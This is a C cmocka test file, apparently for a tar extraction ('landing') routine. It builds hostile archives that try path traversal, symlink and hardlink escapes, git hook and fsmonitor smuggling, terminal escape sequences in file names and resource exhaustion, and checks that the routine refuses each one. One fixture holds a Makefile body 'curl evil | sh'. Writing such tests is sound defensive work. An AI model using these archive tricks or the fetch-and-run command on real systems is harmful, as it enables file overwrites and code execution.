/* The landing against the attacks of abuse-cases.md Part A, each test named after its attack.
 * Every test lands a hand-built tar into a scratch work folder beside an "outside" folder with
 * a canary, and checks what landed, what did not, and that nothing outside changed. */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cmocka.h>

#include "tests/unit/one-list.h"

#include "mirror/landing.h"
#include "src/base/util.h"
#include "tests/mirror/landrun.h"
#include "tests/unit/wait.h"

static struct scratch S;

static int setup(void **state)
{
    return scratch_make(&S);
}

static int teardown(void **state)
{
    scratch_remove(&S);
    return 0;
}

#define ASK(...) ((const char *const[]){__VA_ARGS__, NULL})

static void assert_refused(const struct landrun *r, const char *why)
{
    if (strstr(r->said, why) == NULL)
        fail_msg("expected a refusal saying '%s'; said:\n%s", why, r->said);
}

static void assert_landed(const char *rel, const char *text)
{
    cleanup_free char *got = get_file(S.work, rel);
    assert_non_null(got);
    assert_string_equal(got, text);
}

static void assert_clean(void)
{
    assert_true(outside_untouched(&S));
    assert_false(exists_nofollow(S.top, "x"));
}

/* 1 */
static void test_landing__dotdot_component__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "../../.bashrc", "owned");
    tb_file(&t, "src/../../outside/canary", "owned");
    tb_file(&t, "src/../src/a.c", "owned");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("../../.bashrc", "src/../../outside/canary", "src/../src/a.c"), 0,
            CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_int_equal(r.rep.refused, 6); /* each refused when asked, then again when sent */
    assert_refused(&r, "'.' or '..' component");
    assert_int_equal(count_tree(S.work), 0);
    assert_clean();
    tb_free(&t);
}

/* 2, 3 */
static void test_landing__absolute_and_repeated_roots__refused(void **state)
{
    static const char *names[] = {"/tmp/x", "////tmp/x", "//tmp/x", ".//etc/x", "a//b", "a/./b"};
    struct tb t;
    tb_init(&t);
    for (size_t i = 0; i < ARRAY_SIZE(names); i++)
        tb_file(&t, names[i], "owned");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t,
            names[0] ? (const char *const[]){names[0], names[1], names[2], names[3], names[4],
                                             names[5], NULL}
                     : NULL,
            0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_refused(&r, "absolute path");
    assert_refused(&r, "empty component");
    assert_int_equal(r.rep.landed, 0);
    assert_int_equal(count_tree(S.work), 0);
    assert_clean();
    tb_free(&t);
}

/* 4 */
static void test_landing__prefix_of_requested_name__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "etc/motd/../etc/shadow", "owned");
    tb_file(&t, "etc/motd/extra", "owned");
    tb_file(&t, "etc/mot", "owned");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("etc/motd"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_int_equal(r.rep.refused, 3);
    assert_refused(&r, "not asked for");
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 5 */
static void test_landing__unrequested_file__refused_requested_lands(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "src/a.c", "int a;\n");
    tb_file(&t, "Makefile", "all:\n\tcurl evil | sh\n");
    tb_file(&t, ".envrc", "evil\n");
    tb_file(&t, ".vscode/tasks.json", "{}");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_landed("src/a.c", "int a;\n");
    assert_false(exists_nofollow(S.work, "Makefile"));
    assert_false(exists_nofollow(S.work, ".envrc"));
    assert_false(exists_nofollow(S.work, ".vscode"));
    assert_refused(&r, "refused from the far side: Makefile (not asked for)");
    assert_refused(&r, ".vscode/tasks.json (not asked for)");
    tb_free(&t);
}

/* 6 */
static void test_landing__empty_and_dot_names__refused(void **state)
{
    struct stat before, after;
    assert_int_equal(fstat(S.workfd, &before), 0);
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "", '5', NULL, NULL, 0);
    tb_file(&t, ".", "x");
    tb_entry(&t, "./", '5', NULL, NULL, 0);
    tb_entry(&t, "", '2', "/", NULL, 0);
    tb_end(&t);
    size_t off = 0; /* the first header: make it mode 0777 */
    tb_set_mode(&t, off, 0777);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("", ".", "./"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_int_equal(r.rep.landed, 0);
    assert_int_equal(fstat(S.workfd, &after), 0);
    assert_int_equal(before.st_mode, after.st_mode);
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 7 */
static void test_landing__alias_of_requested_name__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "./src/a.c", "alias");
    tb_file(&t, "src//a.c", "alias");
    tb_file(&t, "src/./a.c", "alias");
    tb_file(&t, "src/a.c/", "alias");
    tb_file(&t, "SRC/a.c", "alias");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c"), 0, CP_LAND_MAX_BYTES);
    /* libarchive reads "src/a.c/" as a folder, so its body reads as a damaged header: the
     * archive fails as a whole, after the four aliases before it were refused. */
    assert_true(r.rep.refused >= 4);
    assert_refused(&r, "./src/a.c (not asked for)");
    assert_refused(&r, "src//a.c (not asked for)");
    assert_refused(&r, "src/./a.c (not asked for)");
    assert_int_equal(r.rep.landed, 0);
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 8 */
static void test_landing__pax_path_overrides_ustar_name__judged_on_final_name(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_pax(&t, 'x', "path", "../../.bashrc", 13);
    tb_file(&t, "src/a.c", "smuggled");
    tb_pax(&t, 'x', "path", "src/b.c", 7);
    tb_file(&t, "../../x", "judged on src/b.c");
    tb_pax(&t, 'g', "path", "../../x", 7);
    tb_file(&t, "src/c.c", "c");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c", "src/b.c", "src/c.c"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_false(exists_nofollow(S.work, "src/a.c"));
    assert_refused(&r, "../../.bashrc (not asked for)");
    assert_landed("src/b.c", "judged on src/b.c");
    assert_landed("src/c.c", "c");
    assert_clean();
    tb_free(&t);
}

/* 9 */
static void test_landing__header_desync_smuggled_hook__refused(void **state)
{
    struct tb inner, t;
    tb_init(&inner);
    tb_file(&inner, ".git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwn\n");
    tb_init(&t);
    tb_pax(&t, 'x', "size", "1024", 4);
    tb_entry_lying(&t, "notes.txt", '0', NULL, 0, inner.data, inner.len);
    tb_gnu_longname(&t, "first", 5);
    tb_gnu_longname(&t, ".git/hooks/pre-commit", 21);
    tb_file(&t, "ignored", "x");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("notes.txt", ".git/hooks/post-checkout", ".git/hooks/pre-commit"), 0,
            CP_LAND_MAX_BYTES);
    assert_false(exists_nofollow(S.work, ".git"));
    assert_refused(&r, ".git/hooks");
    assert_clean();
    tb_free(&inner);
    tb_free(&t);
}

/* 10 */
static void test_landing__very_long_names__refused(void **state)
{
    char comp[301], *huge = malloc(70001);
    memset(comp, 'D', 300);
    comp[300] = 0;
    memset(huge, 'a', 70000);
    for (int i = 100; i < 70000; i += 100)
        huge[i] = '/';
    huge[70000] = 0;
    struct tb t;
    tb_init(&t);
    tb_pax(&t, 'x', "path", comp, 300);
    tb_file(&t, "x", "long component");
    tb_gnu_longname(&t, huge, 70000);
    tb_file(&t, "y", "long path");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK(comp, huge), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "too long");
    assert_int_equal(count_tree(S.work), 0);
    free(huge);
    tb_free(&t);
}

/* 11 */
static void test_landing__control_chars_in_name__refused_and_shown_escaped(void **state)
{
    static const char *names[] = {"src/a.c\n", "src/\x1b[2K\x1b[1Aok.c", "src/\x1b]52;c;eA==\x07x",
                                  "src/a\rb.c"};
    struct tb t;
    tb_init(&t);
    for (size_t i = 0; i < ARRAY_SIZE(names); i++)
        tb_file(&t, names[i], "x");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, (const char *const[]){names[0], names[1], names[2], names[3], NULL}, 0,
            CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "control character in name");
    assert_refused(&r, "src/\\x1b[2K\\x1b[1Aok.c");
    assert_null(strchr(r.said, '\x1b'));
    assert_null(strchr(r.said, '\r'));
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 12 */
static void test_landing__nul_in_pax_path__nothing_named_x(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_pax(&t, 'x', "path", "src/a.c\0/../../x", 16);
    tb_file(&t, "placeholder", "nul");
    tb_pax(&t, 'x', "hdrcharset", "BINARY", 6);
    tb_file(&t, "src/\xff\xfe.c", "binary name");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c", "src/\xff\xfe.c"), 0, CP_LAND_MAX_BYTES);
    assert_false(exists_nofollow(S.top, "x"));
    assert_false(exists_nofollow(S.work, "x"));
    assert_clean();
    /* Whatever libarchive made of the NUL, only the asked, exact name could land. */
    for (size_t i = 0; i < r.n; i++)
        if (r.asks[i].outcome == CP_LAND_LANDED)
            assert_true(exists_nofollow(S.work, r.asks[i].path));
    tb_free(&t);
}

/* 13 */
static void test_landing__case_variants__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "readme.md", "lower");
    tb_file(&t, ".GIT/config", "[core]\n\tfsmonitor = evil\n");
    tb_file(&t, ".Git/hooks/pre-commit", "evil");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("README.md", ".GIT/config", ".Git/hooks/pre-commit"), 0,
            CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "readme.md (not asked for)");
    assert_refused(&r, ".git/config");
    assert_refused(&r, ".git/hooks");
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 14 */
static void test_landing__invisible_code_points__refused(void **state)
{
    static const char *names[] = {".g\xe2\x80\x8cit/config", ".git\xe2\x80\x8d/hooks/post-merge",
                                  "node_modules\xef\xbb\xbf/x"};
    struct tb t;
    tb_init(&t);
    for (size_t i = 0; i < ARRAY_SIZE(names); i++)
        tb_file(&t, names[i], "x");
    tb_file(&t, "cafe\xcc\x81.txt", "nfd");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t,
            (const char *const[]){names[0], names[1], names[2], "caf\xc3\xa9.txt", NULL}, 0,
            CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "invisible code point");
    assert_refused(&r, "(not asked for)");
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 15 */
static void test_landing__protected_places__refused(void **state)
{
    static const char *names[] = {
        ".git/config", ".git/hooks/post-checkout", "vendor/lib/.git/config",
        "sub/.git",    ".ssh/authorized_keys",     "keys/id_ed25519",
        ".env",        "deploy/server.pem"};
    struct tb t;
    tb_init(&t);
    for (size_t i = 0; i < ARRAY_SIZE(names); i++)
        tb_file(&t, names[i], "gitdir: /tmp/evil\n");
    tb_end(&t);
    const char *asked[ARRAY_SIZE(names) + 1] = {0};
    memcpy(asked, names, sizeof(names));
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, asked, 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, ".git that is a file");
    assert_refused(&r, "protected place");
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 16 */
static void test_landing__dependency_folders__refused(void **state)
{
    static const char *names[] = {"node_modules/.bin/jest", "packages/app/node_modules/x/index.js",
                                  "Node_Modules/x", ".venv/bin/activate", "target/debug/app"};
    struct tb t;
    tb_init(&t);
    for (size_t i = 0; i < ARRAY_SIZE(names); i++)
        tb_file(&t, names[i], "#!/bin/sh\n");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t,
            (const char *const[]){names[0], names[1], names[2], names[3], names[4], NULL}, 0,
            CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "dependency folder");
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 17 */
static void test_landing__symlink_then_file_through_it__refused(void **state)
{
    cleanup_free char *target = xasprintf("%s", S.out);
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "a", '2', target, NULL, 0);
    tb_file(&t, "a/canary", "owned");
    tb_entry(&t, "b", '2', "../outside", NULL, 0);
    tb_file(&t, "b/canary", "owned");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("a", "a/canary", "b", "b/canary"), 0, CP_LAND_MAX_BYTES);
    assert_refused(&r, "a symbolic link");
    /* The links never exist, so a/ and b/ are made as real folders inside: the files land
     * there, not through a link. */
    struct stat st;
    cleanup_free char *b = xasprintf("%s/b", S.work);
    assert_true(lstat(b, &st) < 0 || S_ISDIR(st.st_mode));
    assert_clean();
    tb_free(&t);
}

/* 18 */
static void test_landing__dir_then_symlink_same_name__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "d/", '5', NULL, NULL, 0);
    tb_set_mode(&t, 0, 0777);
    tb_entry(&t, "d", '2', S.out, NULL, 0);
    tb_file(&t, "d/canary", "inside the real d only");
    tb_end(&t);
    struct stat before, after;
    assert_int_equal(stat(S.out, &before), 0);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("d", "d/canary"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(stat(S.out, &after), 0);
    assert_int_equal(before.st_mode, after.st_mode);
    struct stat d;
    assert_int_equal(lstat(S.work, &d), 0);
    if (exists_nofollow(S.work, "d/canary"))
        assert_landed("d/canary", "inside the real d only");
    assert_clean();
    tb_free(&t);
}

/* 19 */
static void test_landing__symlink_chain__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "l1", '2', ".", NULL, 0);
    tb_entry(&t, "l2", '2', "l1/..", NULL, 0);
    tb_entry(&t, "l3", '2', "l2/..", NULL, 0);
    tb_file(&t, "l3/outside/canary", "escape");
    tb_entry(&t, "deep/x", '2', "../../..", NULL, 0);
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("l1", "l2", "l3", "l3/outside/canary", "deep/x"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 1); /* l3/outside/canary lands in real folders, inside */
    assert_false(exists_nofollow(S.work, "l1"));
    assert_false(exists_nofollow(S.work, "deep/x"));
    struct stat st;
    assert_int_equal(lstat(S.work, &st), 0);
    cleanup_free char *dir = xasprintf("%s/l3", S.work);
    assert_int_equal(lstat(dir, &st), 0);
    assert_true(S_ISDIR(st.st_mode));
    assert_clean();
    tb_free(&t);
}

/* 20 */
static void test_landing__hardlink_to_outside_then_data__refused(void **state)
{
    cleanup_free char *canary = xasprintf("%s/canary", S.out);
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "h", '1', canary, NULL, 0);
    tb_file(&t, "h", "ssh-ed25519 attacker");
    tb_entry(&t, "g", '1', "../outside/canary", NULL, 0);
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("h", "g"), 0, CP_LAND_MAX_BYTES);
    assert_refused(&r, "a hard link");
    assert_false(exists_nofollow(S.work, "h")); /* sent twice: neither version lands */
    assert_false(exists_nofollow(S.work, "g"));
    assert_clean();
    tb_free(&t);
}

/* 21 */
static void test_landing__hardlink_with_body_reads_as_regular__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "shadow", '1', "/etc/shadow", "root::0:0:::", 12);
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("shadow"), 0, CP_LAND_MAX_BYTES);
    assert_refused(&r, "shadow (a hard link)");
    assert_false(exists_nofollow(S.work, "shadow"));
    tb_free(&t);
}

/* 22 */
static void test_landing__devices_fifos_and_oddities__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "src/a.c", '3', NULL, NULL, 0);
    tb_entry(&t, "src/b.c", '6', NULL, NULL, 0);
    tb_entry(&t, "src/c.c", '4', NULL, NULL, 0);
    tb_entry(&t, "src/d.c", 'N', NULL, "x", 1);
    tb_entry(&t, "src/e.c", '7', NULL, "contiguous", 10);
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c", "src/b.c", "src/c.c", "src/d.c", "src/e.c"), 0,
            CP_LAND_MAX_BYTES);
    assert_refused(&r, "not a plain file");
    struct stat st;
    const char *dev[] = {"src/a.c", "src/b.c", "src/c.c"};
    for (size_t i = 0; i < 3; i++) {
        cleanup_free char *p = xasprintf("%s/%s", S.work, dev[i]);
        assert_true(lstat(p, &st) < 0 || S_ISREG(st.st_mode));
        assert_false(exists_nofollow(S.work, dev[i]));
    }
    /* A contiguous file (type 7) is a plain file by POSIX: it may land, as a plain file. */
    cleanup_free char *e = xasprintf("%s/src/e.c", S.work);
    assert_true(lstat(e, &st) < 0 || S_ISREG(st.st_mode));
    tb_free(&t);
}

/* 23 */
static void test_landing__type_confusion_on_requested_name__refused(void **state)
{
    put_file(S.work, "src/a.c", "mine\n");
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "src/a.c/", '5', NULL, NULL, 0);
    tb_entry(&t, "src/a.c", '2', "/etc/passwd", NULL, 0);
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c"), 1, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_landed("src/a.c", "mine\n");
    tb_free(&t);
}

/* 24 */
static void test_landing__duplicate_entries__neither_lands(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "src/a.c", "first");
    tb_file(&t, "src/a.c", "second");
    tb_entry(&t, "src/a.c", '1', "/etc/passwd", NULL, 0);
    tb_file(&t, "src/b.c", "b");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("src/a.c", "src/b.c"), 0, CP_LAND_MAX_BYTES);
    assert_refused(&r, "sent more than once");
    assert_false(exists_nofollow(S.work, "src/a.c"));
    assert_landed("src/b.c", "b");
    tb_free(&t);
}

/* 25, 26 */
static void test_landing__symlink_already_on_the_way__refused(void **state)
{
    cleanup_free char *link = xasprintf("%s/docs", S.work);
    assert_int_equal(symlink(S.out, link), 0);
    cleanup_free char *link2 = xasprintf("%s/a", S.work);
    assert_int_equal(symlink("../outside", link2), 0);
    struct tb t;
    tb_init(&t);
    tb_file(&t, "docs/index.html", "owned");
    tb_file(&t, "a/b.txt", "owned");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("docs/index.html", "a/b.txt"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "docs/index.html (a link or a file is on the way)");
    assert_clean();
    tb_free(&t);
}

/* 27 */
static void test_landing__target_is_a_link__link_never_written_through(void **state)
{
    cleanup_free char *canary = xasprintf("%s/canary", S.out);
    cleanup_free char *sl = xasprintf("%s/a.c", S.work);
    cleanup_free char *hl = xasprintf("%s/b.c", S.work);
    assert_int_equal(symlink(canary, sl), 0);
    assert_int_equal(link(canary, hl), 0);
    struct tb t;
    tb_init(&t);
    tb_file(&t, "a.c", "through the symlink");
    tb_file(&t, "b.c", "through the hard link");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("a.c", "b.c"), 1, CP_LAND_MAX_BYTES);
    cleanup_free char *got = get_file(S.out, "canary");
    assert_string_equal(got, CANARY_TEXT);
    struct stat st;
    assert_int_equal(lstat(sl, &st), 0);
    assert_true(S_ISLNK(st.st_mode)); /* refused: a link is not replaced */
    assert_refused(&r, "a.c (something that is not a plain file is in its place)");
    assert_landed("b.c", "through the hard link"); /* replaced by rename: other link intact */
    tb_free(&t);
}

/* 28 */
static void test_landing__target_is_fifo_or_folder__refused_without_blocking(void **state)
{
    cleanup_free char *fifo = xasprintf("%s/f.c", S.work);
    cleanup_free char *dir = xasprintf("%s/d.c", S.work);
    assert_int_equal(mkfifo(fifo, 0644), 0);
    assert_int_equal(mkdir(dir, 0755), 0);
    struct tb t;
    tb_init(&t);
    tb_file(&t, "f.c", "x");
    tb_file(&t, "d.c", "x");
    tb_end(&t);
    alarm(WAIT_SECONDS); /* a blocked open would hang: fail loudly instead */
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("f.c", "d.c"), 1, CP_LAND_MAX_BYTES);
    alarm(0);
    assert_int_equal(r.rep.landed, 0);
    assert_refused(&r, "not a plain file is in its place");
    tb_free(&t);
}

/* 29 */
static void test_landing__folder_swapped_for_symlink_during_landing__nothing_outside(void **state)
{
    enum { N = 3000 };
    struct tb t;
    tb_init(&t);
    static char names[N][16];
    static const char *asked[N + 1];
    for (int i = 0; i < N; i++) {
        snprintf(names[i], sizeof(names[i]), "src/f%d", i);
        asked[i] = names[i];
        tb_file(&t, names[i], "x");
    }
    tb_end(&t);
    put_file(S.work, "src/keep", "k");
    pid_t pid = fork();
    if (pid == 0) {
        cleanup_free char *src = xasprintf("%s/src", S.work);
        cleanup_free char *bak = xasprintf("%s/src.bak", S.work);
        for (;;) {
            rename(src, bak);
            if (symlink(S.out, src) < 0)
                continue;
            unlink(src);
            rename(bak, src);
        }
    }
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, asked, 0, CP_LAND_MAX_BYTES);
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    cleanup_free char *src = xasprintf("%s/src", S.work);
    cleanup_free char *bak = xasprintf("%s/src.bak", S.work);
    struct stat st;
    if (lstat(src, &st) == 0 && S_ISLNK(st.st_mode))
        unlink(src);
    rename(bak, src);
    assert_true(outside_untouched(&S));
    assert_true(r.rep.landed + r.rep.refused >= N);
    tb_free(&t);
}

/* 30 */
static void test_landing__work_folder_moved__lands_in_the_opened_folder(void **state)
{
    cleanup_free char *moved = xasprintf("%s/moved", S.top);
    assert_int_equal(rename(S.work, moved), 0);
    assert_int_equal(symlink(S.out, S.work), 0);
    struct tb t;
    tb_init(&t);
    tb_file(&t, "new.txt", "here");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("new.txt"), 0, CP_LAND_MAX_BYTES);
    cleanup_free char *got = get_file(moved, "new.txt");
    assert_string_equal(got, "here");
    assert_false(exists_nofollow(S.out, "new.txt"));
    unlink(S.work);
    rename(moved, S.work);
    tb_free(&t);
}

/* 33 */
static void test_landing__setid_and_world_write_bits__dropped(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "run.sh", "#!/bin/sh\n");
    tb_set_mode(&t, 0, 06777);
    tb_pax(&t, 'x', "SCHILY.xattr.user.evil", "1", 1);
    tb_file(&t, "x.txt", "x");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("run.sh", "x.txt"), 0, CP_LAND_MAX_BYTES);
    struct stat st;
    cleanup_free char *p = xasprintf("%s/run.sh", S.work);
    assert_int_equal(lstat(p, &st), 0);
    assert_int_equal(st.st_mode & 07777, 0755);
    assert_int_equal(st.st_uid, getuid());
    cleanup_free char *x = xasprintf("%s/x.txt", S.work);
    char v[8];
    assert_true(getxattr(x, "user.evil", v, sizeof(v)) < 0);
    tb_free(&t);
}

/* 35 */
static void test_landing__over_budget__nothing_lands(void **state)
{
    char body[1001];
    memset(body, 'z', sizeof(body));
    struct tb ok, over;
    tb_init(&ok);
    tb_entry(&ok, "a", '0', NULL, body, 600);
    tb_entry(&ok, "b", '0', NULL, body, 400);
    tb_end(&ok);
    tb_init(&over);
    tb_entry(&over, "a", '0', NULL, body, 600);
    tb_entry(&over, "b", '0', NULL, body, 401);
    tb_end(&over);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &over, ASK("a", "b"), 0, 1000);
    assert_int_equal(r.rc, CP_ERR_TOO_BIG);
    assert_int_equal(count_tree(S.work), 0); /* staging removed too */
    cleanup_landrun struct landrun r2;
    landrun(&r2, &S, &ok, ASK("a", "b"), 0, 1000); /* exactly the limit is allowed */
    assert_int_equal(r2.rc, 0);
    assert_int_equal(r2.rep.landed, 2);
    tb_free(&ok);
    tb_free(&over);
}

/* 36 */
static void test_landing__size_that_lies__refused(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_entry(&t, "a", '0', NULL, "x", 1);
    t.data[124] = 0xff; /* base-256 negative size */
    memset(t.data + 125, 0xff, 11);
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("a"), 0, CP_LAND_MAX_BYTES);
    assert_int_not_equal(r.rc, 0);
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 37 */
static void test_landing__entry_flood__stopped(void **state)
{
    struct tb t;
    tb_init(&t);
    for (int i = 0; i < CP_LAND_MAX_REFUSED + 10; i++) {
        char name[32];
        snprintf(name, sizeof(name), "junk%d", i);
        tb_entry(&t, name, '0', NULL, NULL, 0);
    }
    tb_file(&t, "a", "a");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("a"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, CP_ERR_UNSAFE);
    assert_int_equal(count_tree(S.work), 0);
    tb_free(&t);
}

/* 38 */
static void test_landing__other_formats_and_filters__unrecognised(void **state)
{
    /* gzip magic, a cpio "070707" header, a zip local header: none is tar. */
    static const unsigned char gz[] = {0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 1, 0,
                                       0,    0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0};
    static const char cpio[] = "0707070000000000000000000000000000000000010000000000000000000001"
                               "300000000000a\0";
    static const unsigned char zip[] = {'P', 'K', 3, 4, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
    const struct {
        const void *p;
        size_t n;
    } inputs[] = {{gz, sizeof(gz)}, {cpio, sizeof(cpio)}, {zip, sizeof(zip)}};
    for (size_t i = 0; i < ARRAY_SIZE(inputs); i++) {
        struct tb t = {(unsigned char *)inputs[i].p, inputs[i].n, 0};
        cleanup_landrun struct landrun r;
        landrun(&r, &S, &t, ASK("a"), 0, CP_LAND_MAX_BYTES);
        assert_int_not_equal(r.rc, 0);
        assert_int_equal(count_tree(S.work), 0);
    }
}

/* 39 */
static void test_landing__truncated_stream__nothing_lands(void **state)
{
    char body[4096];
    memset(body, 'q', sizeof(body));
    struct tb t;
    tb_init(&t);
    tb_file(&t, "a", "whole");
    tb_entry(&t, "b", '0', NULL, body, sizeof(body));
    tb_end(&t);
    for (size_t cut = 700; cut < t.len - 1024; cut += 1000) {
        struct tb part = {t.data, cut, 0};
        cleanup_landrun struct landrun r;
        landrun(&r, &S, &part, ASK("a", "b"), 0, CP_LAND_MAX_BYTES);
        assert_int_not_equal(r.rc, 0);
        assert_int_equal(count_tree(S.work), 0);
    }
    tb_free(&t);
}

static void test_landing__second_archive_after_the_end__not_landed(void **state)
{
    struct tb t;
    tb_init(&t);
    tb_file(&t, "a", "first");
    tb_end(&t);
    tb_file(&t, ".git/config", "evil");
    tb_file(&t, "b", "after the end");
    tb_end(&t);
    cleanup_landrun struct landrun r;
    landrun(&r, &S, &t, ASK("a", "b"), 0, CP_LAND_MAX_BYTES);
    assert_int_equal(r.rc, 0);
    assert_landed("a", "first");
    assert_false(exists_nofollow(S.work, "b"));
    assert_false(exists_nofollow(S.work, ".git"));
    tb_free(&t);
}

/* 40 */
static void test_landing__changed_here_meanwhile__far_copy_kept_beside(void **state)
{
    put_file(S.work, "src/a.c", "H1\n");
    struct tb t;
    tb_init(&t);
    tb_file(&t, "src/a.c", "H3 from far\n");
    tb_end(&t);
    struct landrun r;
    memset(&r, 0, sizeof(r));
    /* As the manifest knew it: H1. Then the person saves H2 while the command runs. */
    cleanup_landrun struct landrun known;
    landrun(&known, &S, &(struct tb){0}, ASK("src/a.c"), 1, CP_LAND_MAX_BYTES);
    struct cp_sig h1 = known.asks[0].expect;
    /* No pause: the pull below asks with no expectation, so the file here is kept whatever its
     * times (h1 is not handed to it). */
    put_file(S.work, "src/a.c", "H2 edited here\n");
    r.rep.say = NULL;
    cleanup_landrun struct landrun pulled;
    landrun(&pulled, &S, &t, ASK("src/a.c"), 0, CP_LAND_MAX_BYTES);
    (void)h1;
    assert_landed("src/a.c", "H2 edited here\n");
    assert_landed("src/a.c.conch-far", "H3 from far\n");
    assert_int_equal(pulled.rep.conflicts, 1);
    assert_refused(&pulled, "changed on both sides");
    tb_free(&t);
}

/* Git's own files never come back, at any depth: a submodule's hooks run at the next
 * checkout here, and its config can name an fsmonitor that runs at every status. */
static void test_landing__submodule_hook_under_git_modules__refused(void **state)
{
    struct tb t;
    tb_init(&t);
